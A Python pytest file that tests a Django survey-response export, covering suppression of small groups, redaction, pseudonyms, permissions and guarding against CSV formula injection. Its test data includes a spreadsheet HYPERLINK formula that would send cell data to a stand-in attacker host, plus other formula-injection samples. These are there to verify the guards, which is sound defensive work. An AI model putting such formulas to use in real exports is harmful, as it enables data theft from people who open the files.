"""The responses export for analysts (scrutiny/exports, issue 19): one row a response in the
responses workbook's layout, read back by the import; what leaves is what the pack's response
sheets let leave (small combinations blank, texts redacted, possible disclosures blank).

The scrutiny is tests.scrutiny.test_workspace's: PS has 13 responses, FHC x6, POL x5, EDU x2;
EDU is below the threshold of 5, so it and POL are shown with no agency.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
from collections import Counter
from pathlib import Path

import pytest
from celery import current_app as celery_app
from django.core.cache import caches
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from scrutiny.disclosure.pseudonyms import responses_numbered
from scrutiny.evidence import ResponseDetails, response_submit
from scrutiny.exports.jobs import EXPORT_KIND, responses_export_store
from scrutiny.exports.responses import responses_export
from scrutiny.instruments import instrument_current_version, instrument_save, version_compile
from scrutiny.instruments.definitions import InstrumentDefinition, OptionDef, QuestionDef
from scrutiny.models import (
    Agency,
    Answer,
    Instrument,
    Job,
    Partnership,
    Response,
    Scrutiny,
    SuccessFactor,
    TrailEntry,
)
from scrutiny.workbooks import responses_import
from scrutiny.workbooks.response_sheet import RESERVED
from scrutiny.workbooks.writing import FORMULA_STARTS, csv_text, csv_text_read
from tests.conftest import client_for
from tests.scrutiny.test_api_responses import stranger as stranger
from tests.scrutiny.test_questionnaires import sample_definition
from tests.scrutiny.test_workspace import PLANTED, _submit
from tests.scrutiny.test_workspace import scrutiny as scrutiny

pytestmark = pytest.mark.django_db
SLUG = "lfp-2026"
CODES = ("Q1", "Q2", "Q3", "Q4", "Q5", "Q6", "Q7")


def _full(instrument: Instrument, agency: Agency) -> None:
    """A response that answers every type: several choices, a number and a date."""
    response_submit(
        compiled=version_compile(instrument_current_version(instrument)),
        values={
            "Q1": "yes",
            "Q2": "=SUM(A1) a plan",
            "Q3": ["briefing", "supervision"],
            "Q4": "3.5",
            "Q5": "2026-03-02",
            "Q6": "3",
            "Q7": "Useful.",
        },
        details=ResponseDetails(agency_id=agency.pk),
        channel=Response.Channel.WORKBOOK,
    )


def _rows(path: Path, fmt: str) -> list[list[object]]:
    if fmt == "csv":
        with open(path, encoding="utf-8-sig", newline="") as file:
            return [list(row) for row in csv.reader(file)]
    sheet = load_workbook(path, read_only=True).worksheets[0]
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def _answers(rows: list[list[object]]) -> Counter[tuple[str, ...]]:
    """The answer columns of each row, as text, in a multiset."""
    return Counter(tuple(str(v) for v in row[len(RESERVED) :]) for row in rows[1:])


@pytest.fixture
def survey(scrutiny) -> Instrument:
    survey = Instrument.objects.get(scrutiny=scrutiny, code="PS")
    council = Agency.objects.get(code="FHC")
    _full(survey, council)
    _full(survey, council)
    return survey


@pytest.mark.parametrize(("fmt", "labels"), [("xlsx", False), ("csv", True), ("xlsx", True)])
def test_the_export_imports_back_into_a_fresh_scrutiny(survey, partnership, tmp_path, fmt, labels):
    path = tmp_path / f"out.{fmt}"
    result = responses_export(instrument=survey, out=str(path), fmt=fmt, labels=labels)
    assert (result.rows, result.questions) == (15, 7)
    exported = _rows(path, fmt)
    assert tuple(exported[0]) == (*RESERVED, *CODES)
    fresh = Scrutiny.objects.create(partnership=partnership, slug="copy", title="Copy")
    SuccessFactor.objects.create(scrutiny=fresh, code="SF1", statement="Plans are good.")
    definition = dataclasses.replace(sample_definition("PS"), kind="practitioner_survey")
    copy = instrument_save(scrutiny=fresh, definition=definition).instrument
    imported = responses_import(instrument=copy, file=path)
    assert (imported.created, imported.updated) == (15, 0)
    again = tmp_path / "again.xlsx"
    responses_export(instrument=copy, out=str(again), fmt="xlsx")
    original = tmp_path / "values.xlsx"
    responses_export(instrument=survey, out=str(original), fmt="xlsx")
    # The same answers, redacted as they left: a CSV's guarding apostrophe (before a text that
    # looks like a formula) is taken off again as it is read.
    assert _answers(_rows(again, "xlsx")) == _answers(_rows(original, "xlsx"))


EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'


def _formula_like(partnership: Partnership, council: Agency, slug: str) -> Instrument:
    """An instrument whose author chose a question code, an option label and an option value
    that a spreadsheet would run as formulas, with six responses (enough to be shown)."""
    scrutiny = Scrutiny.objects.create(partnership=partnership, slug=slug, title="Formulas")
    SuccessFactor.objects.create(scrutiny=scrutiny, code="SF1", statement="Plans are good.")
    definition = InstrumentDefinition(
        code="PS",
        title="Formulas",
        kind="practitioner_survey",
        questions=(
            QuestionDef("A", "Q1", "single", "Pick one", "l"),
            QuestionDef("A", "@SUM(1+1)", "multiple", "Pick many", "l"),
            QuestionDef("A", "Q3", "number", "How many?"),
        ),
        option_lists={"l": (OptionDef("x", EVIL), OptionDef("-2+3", "Minus"))},
    )
    return instrument_save(scrutiny=scrutiny, definition=definition).instrument


@pytest.mark.parametrize("labels", [True, False])
def test_csv_guards_codes_labels_and_values_and_imports_back(
    partnership, council, tmp_path, labels
):
    survey = _formula_like(partnership, council, "formulas")
    for _ in range(6):
        response_submit(
            compiled=version_compile(instrument_current_version(survey)),
            values={"Q1": "x", "@SUM(1+1)": ["x", "-2+3"], "Q3": "-4"},
            details=ResponseDetails(agency_id=council.pk),
            channel=Response.Channel.WORKBOOK,
        )
    path = tmp_path / "out.csv"
    responses_export(instrument=survey, out=str(path), fmt="csv", labels=labels)
    rows = _rows(path, "csv")
    assert rows[0][len(RESERVED) :] == ["Q1", "'@SUM(1+1)", "Q3"]
    assert rows[1][len(RESERVED) :] == (
        [f"'{EVIL}", f"'{EVIL}; Minus", "-4"] if labels else ["x", "x;-2+3", "-4"]
    )
    # Nothing Excel would run, a number aside (a negative number is no formula).
    cells = [cell for row in rows for cell in row[: len(RESERVED) + 2]]
    assert not any(str(cell).startswith(FORMULA_STARTS) for cell in cells)
    copy = _formula_like(partnership, council, "copy")
    imported = responses_import(instrument=copy, file=path)
    assert (imported.created, imported.updated) == (6, 0)
    stored = Answer.objects.filter(response__instrument=copy)
    assert sorted(
        stored.filter(question__code="@SUM(1+1)").values_list("option__value", flat=True)
    ) == (["-2+3"] * 6 + ["x"] * 6)
    assert set(stored.filter(question__code="Q1").values_list("option__value", flat=True)) == {"x"}
    # The workbook writes every one of them as a string cell, never a formula.
    xlsx = tmp_path / "out.xlsx"
    responses_export(instrument=survey, out=str(xlsx), fmt="xlsx", labels=labels)
    cells = [cell for row in load_workbook(xlsx).worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "d"}
    assert (EVIL if labels else "x;-2+3") in {cell.value for cell in cells}


def test_csv_text_and_its_reading_are_each_others_inverse():
    for text in ("=A1", "@SUM(1)", "-2+3", "+1", "\t=1", "'=A1", "''-1", "'quoted'", "plain", ""):
        assert csv_text_read(csv_text(text)) == text
    assert csv_text("=A1") == "'=A1"
    assert csv_text("'=A1") == "''=A1"  # else it would read back as =A1
    assert csv_text("'quoted'") == "'quoted'"


def test_a_number_written_as_text_stays_bare_and_formulas_do_not():
    """An option coded -1 ("Don't know") is read by R, pandas and SPSS as the number it is only
    bare; a spreadsheet reads -1 as that number too, so it needs no guard."""
    for number in ("-1", "+2.5", "-0.75", "-.5", "12"):
        assert csv_text(number) == number and csv_text_read(number) == number
    for formula in ("-2+3", "-1)", "+A1", "-", "=1", "@x", "-1 day", "-\u0661", "+\uff11"):
        assert csv_text(formula) == f"'{formula}"
        assert csv_text_read(csv_text(formula)) == formula
    # Exports before numbers were left bare wrote '-1: it reads back as the -1 it was, and a
    # text that is itself '-1 is written so that it reads back as itself.
    assert csv_text_read("'-1") == "-1" and csv_text_read("'+2.5") == "+2.5"
    for text in ("'-1", "''-1", "'2", "'-1 day"):
        assert csv_text_read(csv_text(text)) == text


def test_a_text_answer_in_a_column_now_of_numbers_is_guarded(partnership, council, tmp_path):
    """Q3 was written text in version 1 and is a number in version 2: the column is typed by
    the newest version, and version 1's "=1+1" must still not run in Excel."""
    scrutiny = Scrutiny.objects.create(partnership=partnership, slug="retyped", title="Retyped")
    SuccessFactor.objects.create(scrutiny=scrutiny, code="SF1", statement="Plans are good.")
    questions = (QuestionDef("A", "Q1", "single", "Pick one", "l"),)
    for kind, value in (("text", "=1+1"), ("number", "-4")):
        definition = InstrumentDefinition(
            code="PS",
            title="Retyped",
            kind="practitioner_survey",
            questions=(*questions, QuestionDef("A", "Q3", kind, "How many?")),
            option_lists={"l": (OptionDef("-1", "Don't know"), OptionDef("1", "Yes"))},
        )
        survey = instrument_save(scrutiny=scrutiny, definition=definition).instrument
        for _ in range(6):
            response_submit(
                compiled=version_compile(instrument_current_version(survey)),
                values={"Q1": "-1", "Q3": value},
                details=ResponseDetails(agency_id=council.pk),
                channel=Response.Channel.WORKBOOK,
            )
    path = tmp_path / "out.csv"
    responses_export(instrument=survey, out=str(path), fmt="csv", labels=False)
    body = [row[len(RESERVED) :] for row in _rows(path, "csv")[1:]]
    assert sorted(map(tuple, body)) == [("-1", "'=1+1")] * 6 + [("-1", "-4")] * 6


def test_options_as_labels_and_cells_as_their_types(survey, tmp_path):
    path = tmp_path / "out.xlsx"
    responses_export(instrument=survey, out=str(path), fmt="xlsx", labels=True)
    rows = _rows(path, "xlsx")
    full = [row for row in rows[1:] if row[len(RESERVED) + 2]]
    assert len(full) == 2
    q1, q2, q3, q4, q5, q6, _ = full[0][len(RESERVED) :]
    assert (q1, q2, q3, q4, q6) == ("Yes", "=SUM(A1) a plan", "Briefings; Supervision", 3.5, "Good")
    assert q5 == dt.datetime(2026, 3, 2)


def test_small_groups_blank_texts_redacted_and_disclosures_blank(scrutiny, tmp_path):
    flagged = Answer.objects.get(text__startswith="Our team briefing")
    flagged.disclosure = True
    flagged.save(update_fields=["disclosure"])
    survey = Instrument.objects.get(scrutiny=scrutiny, code="PS")
    path = tmp_path / "out.csv"
    responses_export(instrument=survey, out=str(path), fmt="csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
    rows = _rows(path, "csv")
    assert len(rows) == 14
    assert sorted(row[1] or "-" for row in rows[1:]) == ["-"] * 7 + ["FHC"] * 6
    assert all(row[5] == "" for row in rows[1:] if row[1] == "")  # no day either
    # Named by the API's pseudonym, never by the stored id or a case reference.
    numbers = set(responses_numbered(survey).values_list("number", flat=True))
    assert {int(row[0]) for row in rows[1:]} == numbers
    assert not numbers & set(Response.objects.values_list("pk", flat=True))
    assert all(row[4] == "" for row in rows[1:])
    text = path.read_text(encoding="utf-8-sig")
    assert "Ring me on [removed] or [removed]." in text
    assert not any(planted in text for planted in PLANTED.values())
    assert "briefing" not in text


def test_an_instrument_without_responses_is_refused(scrutiny, partnership, tmp_path):
    definition = dataclasses.replace(sample_definition("NEW"), kind="practitioner_survey")
    empty = instrument_save(scrutiny=scrutiny, definition=definition).instrument
    with pytest.raises(CommandError, match="no submitted responses"):
        call_command("export_responses", SLUG, "NEW", str(tmp_path / "x.xlsx"))
    with pytest.raises(CommandError, match="no instrument 'NOPE'"):
        call_command("export_responses", SLUG, "NOPE", str(tmp_path / "x.xlsx"))
    assert empty.pk and not (tmp_path / "x.xlsx").exists()


def test_the_command_writes_csv_with_labels_and_is_trailed(survey, tmp_path):
    out = io.StringIO()
    path = tmp_path / "out.csv"
    call_command("export_responses", SLUG, "PS", str(path), "--csv", "--labels", stdout=out)
    assert "15 responses to PS written" in out.getvalue()
    assert "Briefings; Supervision" in path.read_text(encoding="utf-8-sig")
    assert TrailEntry.objects.filter(action="responses_exported").count() == 1


def test_queries_do_not_grow_with_the_responses(survey, tmp_path):
    # Each counted with nothing kept (scrutiny/kept.py), the most it takes: new evidence is
    # never read from what was kept before it, so a count after a warm run would compare a
    # cold export with a warm one (as it did when run alone).
    responses_export(instrument=survey, out=str(tmp_path / "warm.xlsx"))  # process caches filled
    caches["evidence"].clear()
    with CaptureQueriesContext(connection) as few:
        responses_export(instrument=survey, out=str(tmp_path / "a.xlsx"))
    council = Agency.objects.get(code="FHC")
    for i in range(40):
        _submit(survey, council, "4", f"Comment {i}.")
    caches["evidence"].clear()
    with CaptureQueriesContext(connection) as many:
        result = responses_export(instrument=survey, out=str(tmp_path / "b.xlsx"))
    assert result.rows == 55
    assert len(many) == len(few)


def test_progress_is_reported_as_rows_are_written(survey, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    seen: list[tuple[int, str]] = []
    stored, _ = responses_export_store(
        instrument=survey,
        user=None,
        fmt="csv",
        labels=False,
        progress=lambda percent, message: seen.append((percent, message)),
    )
    percents = [p for p, _ in seen]
    assert percents == sorted(percents) and percents[0] == 5 and percents[-1] == 99
    assert seen[-1][1] == "15 of 15 rows written."
    assert (tmp_path / stored).read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.fixture
def jobs_in_process(monkeypatch, settings, tmp_path):
    monkeypatch.setitem(celery_app.conf, "task_always_eager", True)
    settings.MEDIA_ROOT = tmp_path


def test_the_page_exports_by_a_job_and_offers_the_file(
    survey, business_unit, jobs_in_process, django_capture_on_commit_callbacks, settings
):
    client = client_for(business_unit)
    url = reverse("instrument-responses-export", args=[SLUG, survey.pk])
    assert client.get(url).status_code == 200
    detail = client.get(reverse("instrument-detail", args=[SLUG, survey.pk]))
    assert url in detail.content.decode()
    assert client.post(url, {"format": "pdf", "options": "values"}).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"format": "csv", "options": "labels"})
    assert response.status_code == 302
    job = Job.objects.get(kind=EXPORT_KIND)
    assert job.message == "15 responses exported: the file is ready to download."
    assert (job.status, job.progress, job.result["rows"]) == (Job.Status.DONE, 100, 15)
    page = client.get(url).content.decode()
    download = reverse("instrument-responses-export-download", args=[SLUG, survey.pk, job.pk])
    assert download in page
    file = client.get(download)
    assert file.status_code == 200
    body = b"".join(file.streaming_content).decode("utf-8-sig")
    assert body.startswith("ref,agency,area,role,case_ref,submitted,Q1")
    assert TrailEntry.objects.filter(action="responses_exported", user=business_unit).exists()
    # Once deleted (kept a week), its link says so on the export page, which offers another.
    (Path(settings.MEDIA_ROOT) / job.result["file"]).unlink()
    assert client.get(download).url == url


def test_who_may_export(
    survey,
    business_unit,
    scrutineer,
    board_member,
    auditor_council,
    stranger,
    jobs_in_process,
    django_capture_on_commit_callbacks,
):
    url = reverse("instrument-responses-export", args=[SLUG, survey.pk])
    assert client_for(board_member).get(url).status_code == 403
    assert client_for(board_member).post(url, {"format": "csv"}).status_code == 403
    assert client_for(auditor_council).get(url).status_code == 404
    assert client_for(stranger).get(url).status_code == 404
    with django_capture_on_commit_callbacks(execute=True):
        client_for(business_unit).post(url, {"format": "xlsx", "options": "values"})
    job = Job.objects.get(kind=EXPORT_KIND)
    download = reverse("instrument-responses-export-download", args=[SLUG, survey.pk, job.pk])
    assert client_for(business_unit).get(download).status_code == 200
    # Another's job: not theirs to follow (the business unit sees its partnership's jobs).
    assert client_for(scrutineer).get(download).status_code == 404
    assert client_for(board_member).get(download).status_code == 403
    assert client_for(stranger).get(download).status_code == 404
    assert Job.objects.filter(kind=EXPORT_KIND).count() == 1


def test_the_daily_clean_up_deletes_exports_older_than_a_week(survey, tmp_path, settings):
    from scrutiny.exports.jobs import KEPT_FOR
    from scrutiny.tasks import responses_exports_clean

    settings.MEDIA_ROOT = tmp_path
    old, _ = responses_export_store(instrument=survey, user=None, fmt="csv", labels=False)
    new, _ = responses_export_store(instrument=survey, user=None, fmt="xlsx", labels=False)
    week_ago = (timezone.now() - KEPT_FOR - dt.timedelta(hours=1)).timestamp()
    os.utime(tmp_path / old, (week_ago, week_ago))
    assert responses_exports_clean() == 1
    assert not (tmp_path / old).exists() and (tmp_path / new).exists()
    assert "responses-exports-clean" in settings.CELERY_BEAT_SCHEDULE
